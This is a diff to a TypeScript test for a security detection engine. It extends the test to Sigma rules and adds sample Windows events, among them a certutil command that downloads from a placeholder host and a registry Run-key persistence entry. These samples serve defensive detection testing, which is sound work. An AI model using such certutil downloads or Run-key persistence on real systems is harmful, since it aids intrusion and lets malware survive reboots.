@@ -55,13 +55,17 @@ describe("matchEvent agrees with matchEventReference on content/", () => {
 })
 
 const CORPUS = "../shared/corpora/security_content"
-describe.skipIf(!existsSync(CORPUS))("matchEvent agrees with matchEventReference on the security_content corpus", () => {
+const SIGMA = "../shared/corpora/sigma"
+describe.skipIf(!existsSync(CORPUS))("matchEvent agrees with matchEventReference on the corpora (Splunk and, when present, Sigma)", () => {
   if (!existsSync(CORPUS)) console.warn(`skipped: ${CORPUS} is absent`)
-  const corpus = existsSync(CORPUS) ? compileCatalog(loadCatalog({ roots: [CORPUS] }).detections) : undefined
+  const roots = existsSync(SIGMA) ? [CORPUS, SIGMA] : [CORPUS]
+  const corpus = existsSync(CORPUS) ? compileCatalog(loadCatalog({ roots }).detections) : undefined
   it("on every sample command line and pasted event", () => {
     const inputs: TesterInput[] = [
       ...CMDS.map((cmd): TesterInput => ({ built: buildProcessEvents({ cmd, parent: "winword.exe", user: "alice", host: "ws-1" }) })),
       { event: { EventCode: 4688, NewProcessName: "C:\\Windows\\System32\\wmic.exe", Process_Command_Line: "wmic /node:h process call create x" } },
+      { event: { EventID: "4688", Channel: "Security", NewProcessName: "C:\\Windows\\System32\\certutil.exe", CommandLine: "certutil -urlcache -f http://x/a a" } },
+      { event: { EventID: "13", Channel: "Microsoft-Windows-Sysmon/Operational", TargetObject: "HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x", Details: "c:\\users\\public\\x.exe" } },
     ]
     let fired = 0
     for (const input of inputs) {
